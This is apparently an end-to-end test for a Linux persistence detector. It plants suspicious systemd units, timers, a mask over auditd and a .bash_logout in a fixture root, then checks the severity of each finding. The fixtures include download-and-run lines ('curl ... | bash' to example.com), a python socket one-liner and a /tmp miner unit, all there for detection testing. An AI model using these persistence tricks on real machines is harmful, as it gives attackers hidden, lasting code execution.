"""systemd units, timers, masks and shell start-up files judged by what
they run, on a fixture root (--root) with a dpkg database: planted units
(a program in a hidden /tmp directory behind systemd's '-' prefix, a
download-and-run bash -c, python -c with a socket, an unowned program in
/usr/sbin, an ExecStartPre from /dev/shm, a timer every two minutes, a
mask over the auditd unit a package ships, a user unit enabled from a
hidden directory through default.target.wants, one in
~/.local/share/systemd/user running from /tmp) and a .bash_logout that
downloads and runs, each at the severity a responder expects; clean
look-alikes (an admin unit running a packaged program, a daily timer, a
packaged unit, a mask of a unit no package ships, a user unit running a
packaged program, an ordinary .bashrc) stay at info or silent."""
import os

from rasoat_e2e import Tree, check, done, findings, jsonl, run

checks = 0


def ok(cond, message):
    global checks
    check(cond, message)
    checks += 1


OWNED = ["/usr/lib/systemd/system/auditd.service", "/usr/lib/systemd/system/cron.service", "/usr/sbin/cron",
         "/usr/bin/python3", "/usr/sbin/auditd"]

with Tree() as t:
    t.write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
    t.write("etc/group", "root:x:0:\nalice:x:1000:\n")
    t.write("var/lib/dpkg/status", "Package: base\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n")
    dirs = sorted({os.path.dirname(p) for p in OWNED})
    t.write("var/lib/dpkg/info/base.list", "/.\n" + "".join(d + "\n" for d in dirs) + "".join(p + "\n" for p in OWNED))
    for p in OWNED:
        t.write(p, "[Service]\nExecStart=/usr/sbin/cron -f\n" if p.endswith(".service") else "\x7fELF binary\n",
                mode=0o755)
    t.write("usr/sbin/kworkerd", "\x7fELF not packaged\n", mode=0o755)
    sysd = "etc/systemd/system"
    planted = {
        "sysupd.service": ("[Service]\nExecStart=-/tmp/.x/upd\n[Install]\nWantedBy=multi-user.target\n", "high"),
        "net-helper.service": ("[Service]\nExecStart=/bin/bash -c 'curl -fsSL http://example.com/i.sh | bash'\n",
                               "high"),
        "pyagent.service": ("[Service]\nExecStart=/usr/bin/python3 -c \"import socket,os;s=socket.socket()\"\n",
                            "high"),
        "kworkerd.service": ("[Service]\nExecStart=/usr/sbin/kworkerd --quiet\n", "medium"),
        "pre.service": ("[Service]\nExecStartPre=/dev/shm/.p\nExecStart=/usr/sbin/cron -f\n", "high"),
        "sync.timer": ("[Timer]\nOnBootSec=1min\nOnUnitActiveSec=2min\n[Install]\nWantedBy=timers.target\n", "low"),
    }
    clean = {
        "backup.service": "[Service]\nExecStart=/usr/sbin/cron -f\n",
        "daily.timer": "[Timer]\nOnCalendar=daily\nPersistent=true\n",
    }
    for name, (text, _) in planted.items():
        t.write(f"{sysd}/{name}", text)
    for name, text in clean.items():
        t.write(f"{sysd}/{name}", text)
    t.symlink(f"{sysd}/auditd.service", "/dev/null")
    t.symlink(f"{sysd}/nothing-shipped.service", "/dev/null")
    home = "home/alice"
    t.write(f"{home}/.local/.cache/agent.service", "[Service]\nExecStart=/home/alice/.local/.cache/agent\n")
    t.symlink(f"{home}/.config/systemd/user/default.target.wants/agent.service",
              "/home/alice/.local/.cache/agent.service")
    t.write(f"{home}/.local/share/systemd/user/miner.service", "[Service]\nExecStart=/tmp/xmr -o pool\n")
    t.write(f"{home}/.config/systemd/user/clean.service", "[Service]\nExecStart=/usr/sbin/cron -f\n")
    t.write(f"{home}/.bash_logout", "# ~/.bash_logout\ncurl -s http://example.com/x | sh\n")
    t.write(f"{home}/.bashrc", "alias ll='ls -l'\nexport PATH=$HOME/bin:$PATH\n")

    code, out, err = run("persist", "--root", t.path, "--no-db", "--format", "jsonl", "-q", "--fail-on", "none",
                         "--recent", "0")
    ok(code == 0, f"exit {code}: {err[-2000:]}")
    fs = findings(jsonl(out))
    by_path = {}
    for f in fs:
        by_path.setdefault(f["evidence"].get("path"), []).append(f)

    def one(path, rule):
        got = [f for f in by_path.get(path, []) if f["rule"] == rule]
        ok(len(got) == 1, f"{path}: {rule} not reported once: {by_path.get(path)}")
        return got[0]

    for name, (_, sev) in planted.items():
        rule = "rasoat:persist.systemd_timer" if name.endswith(".timer") else "rasoat:persist.systemd_unit"
        f = one(f"/{sysd}/{name}", rule)
        ok(f["severity"] == sev, f"{name}: {f['severity']} ({f['evidence']['verdict']}), wanted {sev}")
        ok(f["attack"] and f.get("remediation"), f"{name}: ATT&CK id and remediation")
    ok("fires every 2 minutes" in one(f"/{sysd}/sync.timer", "rasoat:persist.systemd_timer")["evidence"]["verdict"],
       "timer interval named")
    ok("no package owns" in one(f"/{sysd}/kworkerd.service", "rasoat:persist.systemd_unit")["evidence"]["verdict"],
       "unowned program named")
    ok("inline interpreter" in one(f"/{sysd}/pyagent.service", "rasoat:persist.systemd_unit")["evidence"]["verdict"],
       "inline code named")

    m = one(f"/{sysd}/auditd.service", "rasoat:persist.systemd_mask")
    ok(m["severity"] == "high" and "T1562.001" in m["attack"] and m["evidence"]["package"] == "base",
       f"mask of the packaged auditd unit: {m}")
    ok(f"/{sysd}/nothing-shipped.service" not in by_path, "a mask of nothing shipped is not reported")

    u = one("/home/alice/.local/.cache/agent.service", "rasoat:persist.systemd_user_unit")
    ok(u["severity"] == "medium" and "user's session" in u["evidence"]["verdict"], f"user wants link: {u}")
    ok(u["evidence"].get("user") == "alice", "the account is named")
    u = one("/home/alice/.local/share/systemd/user/miner.service", "rasoat:persist.systemd_user_unit")
    ok(u["severity"] == "high", f"~/.local/share user unit from /tmp: {u}")

    b = one("/home/alice/.bash_logout", "rasoat:persist.shell_startup")
    ok(b["severity"] == "high" and b["evidence"].get("line") == 2, f".bash_logout download-and-run: {b}")

    for quiet in (f"/{sysd}/backup.service", f"/{sysd}/daily.timer", "/usr/lib/systemd/system/cron.service",
                  "/home/alice/.config/systemd/user/clean.service", "/home/alice/.bashrc"):
        worst = [f["severity"] for f in by_path.get(quiet, []) if f["severity"] != "info"]
        ok(not worst, f"clean look-alike {quiet} reported: {by_path.get(quiet)}")

done("test_persist_units_root", checks)
